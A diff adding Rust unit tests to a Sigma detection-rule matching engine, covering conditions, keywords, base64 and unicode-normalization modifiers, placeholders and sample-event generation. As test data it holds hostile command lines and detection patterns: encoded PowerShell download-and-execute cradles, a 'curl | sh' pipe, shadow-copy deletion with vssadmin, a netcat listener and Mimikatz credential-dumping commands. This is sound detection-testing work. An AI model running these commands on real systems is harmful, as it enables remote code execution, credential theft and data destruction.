@@ -1,4 +1,6 @@
 use crate::detection::detection::Detection;
+use crate::detection::MatchOptions;
+use std::collections::HashMap;
 
 #[test]
 fn test_detection() {
@@ -468,3 +470,694 @@ fn test_allof() {
 
     assert_eq!(detection.is_match(&log), false);
 }
+
+#[test]
+fn test_detection_prefilter_optional_fields() {
+    let detection = r#"
+        selection_a:
+            foo: bar
+        selection_b:
+            baz: quux
+        filter:
+            user: root
+        condition: 1 of selection_* and not filter
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    assert!(detection.is_match(&serde_json::json!({"foo": "bar"})));
+    assert!(detection.is_match(&serde_json::json!({"baz": "quux"})));
+    assert!(!detection.is_match(&serde_json::json!({"user": "root"})));
+}
+
+#[test]
+fn test_detection_prefilter_required_fields() {
+    let detection = r#"
+        selection:
+            foo.bar: baz
+            qux|exists: true
+        condition: selection
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    assert!(detection.is_match(&serde_json::json!({"foo": {"bar": "baz"}, "qux": 1})));
+    assert!(!detection.is_match(&serde_json::json!({"qux": 1})));
+}
+
+#[test]
+fn test_detection_keywords() {
+    let detection = r#"
+        keywords:
+            - foo
+            - bar
+        condition: keywords
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    assert!(detection.is_match(&serde_json::json!("a FOO b")));
+    assert!(detection.is_match(&serde_json::json!("a bar b")));
+    assert!(!detection.is_match(&serde_json::json!("a baz b")));
+}
+
+#[test]
+fn test_detection_keywords_all() {
+    let detection = r#"
+        keywords:
+            '|all':
+                - foo
+                - bar
+        condition: keywords
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    assert!(detection.is_match(&serde_json::json!("foo and bar")));
+    assert!(!detection.is_match(&serde_json::json!("foo only")));
+}
+
+#[test]
+fn test_detection_keywords_re() {
+    let detection = r#"
+        keywords|re|i:
+            - '^adm_'
+            - '^svc_'
+        condition: keywords
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    assert!(detection.is_match(&serde_json::json!("SVC_backup")));
+    assert!(!detection.is_match(&serde_json::json!("user_svc_")));
+}
+
+#[test]
+fn test_detection_u64_and_hex() {
+    let detection = r#"
+        large:
+            EventRecordID|gt: 9223372036854775808
+        hex:
+            ProcessId: 31
+        quoted:
+            Status|gte: '0x10'
+        condition: large or hex or quoted
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    assert!(detection.is_match(&serde_json::json!({"EventRecordID": 18446744073709551615u64})));
+    assert!(!detection.is_match(&serde_json::json!({"EventRecordID": 9223372036854775807u64})));
+    assert!(detection.is_match(&serde_json::json!({"ProcessId": "0x1F"})));
+    assert!(detection.is_match(&serde_json::json!({"ProcessId": "31"})));
+    assert!(!detection.is_match(&serde_json::json!({"ProcessId": "0x20"})));
+    assert!(detection.is_match(&serde_json::json!({"Status": 17})));
+    assert!(!detection.is_match(&serde_json::json!({"Status": "0x0f"})));
+}
+
+#[test]
+fn test_detection_big_integers() {
+    let detection = r#"
+        exact:
+            EventRecordID: '1180591620717411303424'
+        above:
+            SequenceNumber|gt: '340282366920938463463374607431768211456'
+        below:
+            Offset|lt: '-0x100000000000000000000000000000000'
+        condition: exact or above or below
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    let is_match = |log: serde_json::Value| detection.is_match(&log);
+    // beyond u64, 2^70 as a float
+    assert!(is_match(serde_json::json!({"EventRecordID": 2f64.powi(70)})));
+    assert!(!is_match(serde_json::json!({"EventRecordID": 2f64.powi(71)})));
+    // beyond i128
+    let above = "340282366920938463463374607431768211457";
+    assert!(is_match(serde_json::json!({"SequenceNumber": above})));
+    assert!(!is_match(serde_json::json!({"SequenceNumber": format!("-{}", above)})));
+    assert!(!is_match(serde_json::json!({"SequenceNumber": "9"})));
+    // integral floats, from numbers beyond u64
+    assert!(is_match(serde_json::json!({"SequenceNumber": 1e40})));
+    assert!(!is_match(serde_json::json!({"SequenceNumber": 1.5})));
+    let below = "-0x1000000000000000000000000000000001";
+    assert!(is_match(serde_json::json!({"Offset": below})));
+    assert!(!is_match(serde_json::json!({"Offset": "-0x0ffffffffffffffffffffffffffffffff"})));
+}
+
+#[test]
+fn test_detection_re_list() {
+    let detection = r#"
+        selection:
+            User|re|i:
+                - '^adm_'
+                - '^svc_'
+        condition: selection
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    assert!(detection.is_match(&serde_json::json!({"User": "adm_alice"})));
+    assert!(detection.is_match(&serde_json::json!({"User": "SVC_backup"})));
+    assert!(!detection.is_match(&serde_json::json!({"User": "alice"})));
+}
+
+#[test]
+fn test_detection_base64offset_contains() {
+    // from SigmaHQ's "PowerShell Base64 Encoded IEX Cmdlet"
+    let detection = r#"
+        selection:
+            CommandLine|base64offset|contains:
+                - 'IEX (['
+                - 'iex (['
+                - 'iex (New'
+                - 'IEX (New'
+                - 'IEX(['
+                - 'iex(['
+                - 'iex(New'
+                - 'IEX(New'
+        condition: selection
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    for encoded in [
+        "V3JpdGUtSG9zdCB4OyBJRVggKE5ldy1PYmplY3QgTmV0LldlYkNsaWVudCkuRG93bmxvYWRTdHJpbmcoMSk=",
+        "YVdyaXRlLUhvc3QgeDsgSUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKDEp",
+        "YWJXcml0ZS1Ib3N0IHg7IElFWCAoTmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50KS5Eb3dubG9hZFN0cmluZygxKQ==",
+    ] {
+        assert!(detection.is_match(&serde_json::json!({
+            "CommandLine": format!("powershell.exe -c \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}'))\"", encoded)
+        })));
+    }
+    assert!(!detection.is_match(&serde_json::json!({
+        "CommandLine": "powershell.exe -c IEX (New-Object Net.WebClient)"
+    })));
+}
+
+#[test]
+fn test_detection_base64offset_short_values() {
+    let detection = |value: &str| {
+        Detection::new(
+            &serde_yml::from_str::<serde_yml::Value>(&format!(
+                "selection:\n    CommandLine|base64offset|contains: '{}'\ncondition: selection\n",
+                value
+            ))
+            .unwrap(),
+        )
+    };
+
+    let err = detection("").unwrap_err();
+    assert!(err.to_string().contains("non-empty"), "{}", err);
+
+    // offsets that would keep no character of the value are dropped
+    let one = detection("a").unwrap();
+    assert!(one.is_match(&serde_json::json!({"CommandLine": "YQ=="})));
+    assert!(one.is_match(&serde_json::json!({"CommandLine": "ICBh"})));
+    assert!(!one.is_match(&serde_json::json!({"CommandLine": "zzzz"})));
+
+    let two = detection("ab").unwrap();
+    for encoded in ["YWI=", "eGFi", "eHhhYg=="] {
+        assert!(two.is_match(&serde_json::json!({"CommandLine": encoded})), "{}", encoded);
+    }
+    assert!(!two.is_match(&serde_json::json!({"CommandLine": "zzzz"})));
+}
+
+#[test]
+fn test_detection_wide_base64offset_contains() {
+    // PowerShell's -EncodedCommand is base64 of UTF-16LE
+    let detection = r#"
+        selection:
+            CommandLine|wide|base64offset|contains: 'iex ('
+        condition: selection
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    assert!(detection.is_match(&serde_json::json!({
+        "CommandLine": "powershell.exe -enc JAB4ACAAPQAgADEAOwAgAGkAZQB4ACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA=="
+    })));
+    assert!(!detection.is_match(&serde_json::json!({
+        "CommandLine": "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
+    })));
+}
+
+#[test]
+fn test_detection_base64_contains() {
+    let detection = r#"
+        selection:
+            CommandLine|base64|contains: 'curl http://x | sh'
+        exact:
+            Payload|base64: 'Invoke-Expression'
+        condition: selection or exact
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    assert!(detection.is_match(&serde_json::json!({
+        "CommandLine": "echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | bash"
+    })));
+    assert!(detection.is_match(&serde_json::json!({"Payload": "SW52b2tlLUV4cHJlc3Npb24="})));
+    assert!(!detection.is_match(&serde_json::json!({"Payload": "sw52b2tllUV4cHJlc3Npb24="})));
+}
+
+#[test]
+fn test_detection_contains_all() {
+    let detection = r#"
+        selection:
+            CommandLine|contains|all:
+                - 'vssadmin'
+                - 'delete'
+                - 'shadows'
+        condition: selection
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    assert!(detection.is_match(&serde_json::json!({
+        "CommandLine": "vssadmin.exe delete shadows /all /quiet"
+    })));
+    assert!(!detection.is_match(&serde_json::json!({
+        "CommandLine": "vssadmin.exe list shadows"
+    })));
+}
+
+#[test]
+fn test_detection_string_modifiers_numbers() {
+    let detection = r#"
+        selection:
+            CommandLine|contains: 443
+            DestinationPort|startswith: '80'
+            EventID|endswith: 25
+        condition: selection
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+
+    assert!(detection.is_match(&serde_json::json!({
+        "CommandLine": "nc -lvp 4433",
+        "DestinationPort": 8080,
+        "EventID": 4625,
+    })));
+    assert!(!detection.is_match(&serde_json::json!({
+        "CommandLine": "nc -lvp 4433",
+        "DestinationPort": 443,
+        "EventID": 4625,
+    })));
+    assert!(!detection.is_match(&serde_json::json!({
+        "CommandLine": "nc -lvp 4433",
+        "DestinationPort": true,
+        "EventID": 4625,
+    })));
+}
+
+#[test]
+fn test_detection_case_sensitive() {
+    let detection = r#"
+        selection:
+            Image: '*\PowerShell.exe'
+        keywords:
+            - Invoke-Mimikatz
+        cased:
+            User|cased: Admin
+        condition: selection or keywords or cased
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+    let cased = MatchOptions {
+        case_sensitive: true,
+        ..Default::default()
+    };
+
+    let log = serde_json::json!({"Image": "C:\\Windows\\powershell.exe"});
+    assert!(detection.is_match_with(&log, &MatchOptions::default()));
+    assert!(!detection.is_match_with(&log, &cased));
+
+    let log = serde_json::json!({"Image": "C:\\Windows\\PowerShell.exe"});
+    assert!(detection.is_match_with(&log, &cased));
+
+    let log = serde_json::json!("invoke-mimikatz -dumpcreds");
+    assert!(detection.is_match_with(&log, &MatchOptions::default()));
+    assert!(!detection.is_match_with(&log, &cased));
+
+    let log = serde_json::json!({"User": "admin"});
+    assert!(!detection.is_match_with(&log, &MatchOptions::default()));
+}
+
+#[test]
+fn test_detection_unicode_normalization() {
+    let detection = r#"
+        selection:
+            CommandLine|contains: 'sekurlsa::logonpasswords'
+        keywords:
+            - 'invoke-mimikatz'
+        condition: selection or keywords
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+    let nfkc = MatchOptions {
+        normalize_unicode: true,
+        ..Default::default()
+    };
+    let homoglyphs = MatchOptions {
+        normalize_unicode: true,
+        fold_homoglyphs: true,
+        ..Default::default()
+    };
+
+    // fullwidth letters
+    let log = serde_json::json!({"CommandLine": "m.exe ｓｅｋｕｒｌｓａ::ｌｏｇｏｎｐａｓｓｗｏｒｄｓ"});
+    assert!(!detection.is_match_with(&log, &MatchOptions::default()));
+    assert!(detection.is_match_with(&log, &nfkc));
+
+    // Cyrillic о and е
+    let log = serde_json::json!("Invоkе-Mimikatz -DumpCreds");
+    assert!(!detection.is_match_with(&log, &nfkc));
+    assert!(detection.is_match_with(&log, &homoglyphs));
+}
+
+#[test]
+fn test_condition() {
+    use crate::Condition;
+    use std::collections::HashMap;
+
+    let condition: Condition = "all of sel_* or (keywords and not filter)".parse().unwrap();
+    assert!(condition.is_match(&HashMap::from([("sel_a", true), ("sel_b", true)])));
+    assert!(!condition.is_match(&HashMap::from([("sel_a", true), ("sel_b", false)])));
+    assert!(condition.is_match(&HashMap::from([("keywords", true), ("filter", false)])));
+    assert!(!condition.is_match(&HashMap::from([
+        ("sel_a", false),
+        ("keywords", true),
+        ("filter", true),
+    ])));
+
+    // owned keys
+    let owned = HashMap::from([("keywords".to_string(), true)]);
+    assert!(condition.is_match(&owned));
+
+    assert!(Condition::new("1 of").is_err());
+    assert!(Condition::new("selection and").is_err());
+
+    // `*` and `?` anywhere in patterns
+    let condition: Condition = "1 of s?l_*_x*y".parse().unwrap();
+    assert!(condition.is_match(&HashMap::from([("sel_a_x_y", true)])));
+    assert!(condition.is_match(&HashMap::from([("sol__xy", true)])));
+    assert!(!condition.is_match(&HashMap::from([("sel_a_xy_z", true)])));
+    assert!(!condition.is_match(&HashMap::from([("seel_a_xy", true)])));
+    let condition: Condition = "1 of a*a".parse().unwrap();
+    assert!(!condition.is_match(&HashMap::from([("a", true)])));
+    assert!(condition.is_match(&HashMap::from([("aa", true)])));
+
+    // patterns are matched without backtracking
+    let pattern = format!("1 of {}b", "a*".repeat(30));
+    let condition: Condition = pattern.parse().unwrap();
+    assert!(!condition.is_match(&HashMap::from([("a".repeat(60).as_str(), true)])));
+}
+
+#[test]
+fn test_selection() {
+    use crate::Selection;
+
+    let selection: Selection = r#"
+user.name: root
+dst_port|gte: 1024
+"#
+    .parse()
+    .unwrap();
+    assert!(selection.is_match(&serde_json::json!({"user": {"name": "root"}, "dst_port": 8080})));
+    assert!(!selection.is_match(&serde_json::json!({"user": {"name": "root"}, "dst_port": 22})));
+    assert_eq!(selection.items().count(), 2);
+    assert_eq!(selection.required_fields().len(), 2);
+
+    assert!("foo|nonexistent: bar".parse::<Selection>().is_err());
+    assert!("42".parse::<Selection>().is_err());
+}
+
+#[test]
+fn test_rule_is_match() {
+    use crate::event::{Event, LogSource};
+    use crate::SigmaRule;
+
+    let rule = |yaml: &str| serde_yml::from_str::<SigmaRule>(yaml).unwrap();
+    let detection = rule(
+        r#"
+title: test rule
+id: test-rule
+logsource:
+  product: linux
+  service: auditd
+detection:
+  selection:
+    foo: bar
+  condition: selection
+"#,
+    );
+    let event = Event::new(serde_json::json!({"foo": "BAR"}));
+    assert!(detection.is_match(&event));
+    assert!(detection.is_match(&event.clone().logsource(LogSource::default().product("linux"))));
+    assert!(!detection.is_match(&event.clone().logsource(LogSource::default().product("windows"))));
+    assert!(!detection.is_match(&Event::new(serde_json::json!({"foo": "baz"}))));
+
+    #[cfg(feature = "correlation")]
+    {
+        let aggregation = rule(
+            r#"
+title: test aggregation
+id: test-aggregation
+logsource:
+  category: test
+detection:
+  selection:
+    foo: bar
+  timeframe: 1m
+  condition: selection | count() > 1
+"#,
+        );
+        assert!(!aggregation.is_match(&event));
+
+        let correlation = rule(
+            r#"
+title: test correlation
+id: test-correlation
+correlation:
+  type: event_count
+  rules:
+    - test-rule
+  group-by:
+    - user
+  timespan: 1m
+  condition:
+    gte: 1
+"#,
+        );
+        assert!(!correlation.is_match(&event));
+    }
+}
+
+#[test]
+fn test_detection_keywords_nested() {
+    let detection = r#"
+        keywords:
+            - mimikatz
+            - 4625
+        condition: keywords
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+    let top = MatchOptions {
+        keywords: crate::KeywordOptions::new().max_depth(0),
+        ..Default::default()
+    };
+    let strings = MatchOptions {
+        keywords: crate::KeywordOptions::new().non_strings(false),
+        ..Default::default()
+    };
+
+    let log = serde_json::json!({"process": {"args": ["-c", "Invoke-Mimikatz"]}});
+    assert!(detection.is_match(&log));
+    assert!(!detection.is_match_with(&log, &top));
+    assert!(detection.is_match_with(&serde_json::json!({"cmd": "MIMIKATZ.exe"}), &top));
+
+    let log = serde_json::json!({"EventID": 4625, "Success": false});
+    assert!(detection.is_match(&log));
+    assert!(!detection.is_match_with(&log, &strings));
+    assert!(!detection.is_match(&serde_json::json!({"EventID": 4624, "mimi": "katz"})));
+
+    let detection = r#"
+        keywords:
+            '|all':
+                - foo
+                - bar
+        condition: keywords
+        "#;
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+    assert!(detection.is_match(&serde_json::json!({"a": "foo", "b": [{"c": "bar"}]})));
+}
+
+#[test]
+fn test_sample_events() {
+    use crate::rule::RuleType;
+    use crate::testing::{matching_event, non_matching_event};
+    use crate::SigmaRule;
+    use serde_json::json;
+
+    let rule = |detection: &str| {
+        serde_yml::from_str::<SigmaRule>(&super::rule_yaml("t", "", "  category: test", detection))
+            .unwrap()
+    };
+    let check = |rule: &SigmaRule| {
+        let RuleType::Detection(ref detection) = rule.rule else {
+            unreachable!()
+        };
+        let options = MatchOptions::default();
+        let matching = matching_event(rule).unwrap();
+        assert!(detection.is_match(&matching, &options), "{}", matching);
+        let non_matching = non_matching_event(rule).unwrap();
+        assert!(
+            !detection.is_match(&non_matching, &options),
+            "{}",
+            non_matching
+        );
+        (matching, non_matching)
+    };
+
+    let (matching, non_matching) = check(&rule(
+        r#"
+  selection:
+    process.name: 'powershell*'
+    CommandLine|contains|all: ['-enc', 'bypass']
+    Port|gt: 1024
+    SourceIp|cidr: 10.0.0.0/8
+    Hash|re: '^[0-9a-f]{4}$'
+  condition: selection
+"#,
+    ));
+    assert_eq!(
+        matching,
+        json!({
+            "process": {"name": "powershell"},
+            "CommandLine": "-enc bypass",
+            "Port": 1025,
+            "SourceIp": "10.0.0.0",
+            "Hash": "aaaa",
+        })
+    );
+    assert_eq!(non_matching["process"]["name"], json!("sigmars-no-match"));
+
+    // the near miss matches the selection and the filter
+    let (matching, non_matching) = check(&rule(
+        r#"
+  selection:
+    EventID: 4625
+  filter:
+    User|endswith: '$'
+  keywords:
+    - failed
+  condition: (selection or keywords) and not filter
+"#,
+    ));
+    assert_eq!(matching, json!({"message": "failed"}));
+    assert_eq!(non_matching["User"], json!("$"));
+    assert_eq!(non_matching["message"], json!("failed"));
+
+    let (matching, _) = check(&rule(
+        r#"
+  selection:
+    Target|fieldref: Source
+    Parent|exists: true
+  condition: 1 of selection*
+"#,
+    ));
+    assert_eq!(
+        matching,
+        json!({"Target": "sample", "Source": "sample", "Parent": "sample"})
+    );
+
+    // placeholders are not expanded, and the word boundary fails
+    let infeasible = rule("  selection:\n    a|expand: '%x%'\n  condition: selection\n");
+    assert_eq!(matching_event(&infeasible), None);
+    let infeasible = rule("  selection:\n    a|re: 'a\\bb'\n  condition: selection\n");
+    assert_eq!(matching_event(&infeasible), None);
+
+    // whether the event matches depends on its log source
+    let logsource = rule(
+        "  selection:\n    a: foo\n  filter:\n    '@logsource.product': windows\n\
+         \x20 condition: selection and not filter\n",
+    );
+    assert_eq!(matching_event(&logsource), None);
+    assert_eq!(non_matching_event(&logsource), None);
+}
+
+#[test]
+fn test_detection_expand() {
+    let detection = r#"
+        selection:
+            User|expand: '%vip_users%'
+            Image|expand|endswith: '%tools%.exe'
+        condition: selection
+        "#;
+
+    let detection =
+        Detection::new(&serde_yml::from_str::<serde_yml::Value>(detection).unwrap()).unwrap();
+    let placeholders = |values: serde_json::Value| {
+        std::sync::Arc::new(serde_json::from_value::<HashMap<String, _>>(values).unwrap())
+    };
+    let options = MatchOptions {
+        placeholders: placeholders(serde_json::json!({
+            "vip_users": ["alice", "bob"],
+            "tools": ["\\PsExec", "\\procdump"],
+        })),
+        ..Default::default()
+    };
+
+    let log = serde_json::json!({"User": "Bob", "Image": "C:\\Tools\\PsExec.exe"});
+    assert!(detection.is_match_with(&log, &options));
+    assert!(!detection.is_match_with(&log, &MatchOptions::default()));
+
+    let log = serde_json::json!({"User": "carol", "Image": "C:\\Tools\\PsExec.exe"});
+    assert!(!detection.is_match_with(&log, &options));
+
+    // the event context takes precedence over the collection
+    let context = MatchOptions {
+        context: Some(placeholders(serde_json::json!({"vip_users": "carol"}))),
+        ..options.clone()
+    };
+    assert!(detection.is_match_with(&log, &context));
+    let log = serde_json::json!({"User": "bob", "Image": "C:\\Tools\\PsExec.exe"});
+    assert!(!detection.is_match_with(&log, &context));
+}
+
+#[test]
+fn test_intern() {
+    use crate::intern::Interner;
+    use std::sync::Arc;
+
+    let mut interner = Interner::default();
+    let foo = interner.intern("foo");
+    assert!(Arc::ptr_eq(&foo, &interner.intern("foo")));
+
+    // strings no longer used are pruned, the others kept
+    for i in 0..100_000 {
+        interner.intern(&format!("field{}", i));
+    }
+    assert!(interner.len() < 3_000, "{}", interner.len());
+    assert!(Arc::ptr_eq(&foo, &interner.intern("foo")));
+}